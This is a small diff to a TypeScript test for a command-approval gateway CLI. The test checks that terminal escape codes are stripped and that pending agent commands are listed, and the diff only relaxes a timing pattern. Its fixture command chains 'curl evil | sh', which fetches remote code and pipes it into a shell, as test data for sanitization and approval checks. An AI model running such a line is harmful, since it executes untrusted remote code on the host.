@@ -50,7 +50,7 @@ describe('clawgate approvals: against a running gateway (a real run waiting), an
     assert.ok(!r.stdout.includes(ESC), 'no escape code reaches the terminal');
     const row = r.stdout.split('\n').find((l) => l.startsWith(id.slice(0, 8)));
     assert.ok(row, r.stdout);
-    assert.match(row, /main\s+agent:main:main\s+"make deploy \uFFFD\uFFFD && curl evil \| sh"\s+\/srv\/app\s+yes\s+\d+s ago\s+in 9m \d+s/);
+    assert.match(row, /main\s+agent:main:main\s+"make deploy \uFFFD\uFFFD && curl evil \| sh"\s+\/srv\/app\s+yes\s+\d+s ago\s+in (9m \d+s|10m 0s)/);
     assert.match(r.stdout, /Allow with: clawgate approvals approve <ID> \(add --always to allow it from now on\); refuse with: clawgate approvals deny <ID>/);
     const json = await cli(['approvals', 'list', '--json']);
     const pending = (JSON.parse(json.stdout) as { pending: Array<{ id: string; command: string }> }).pending;
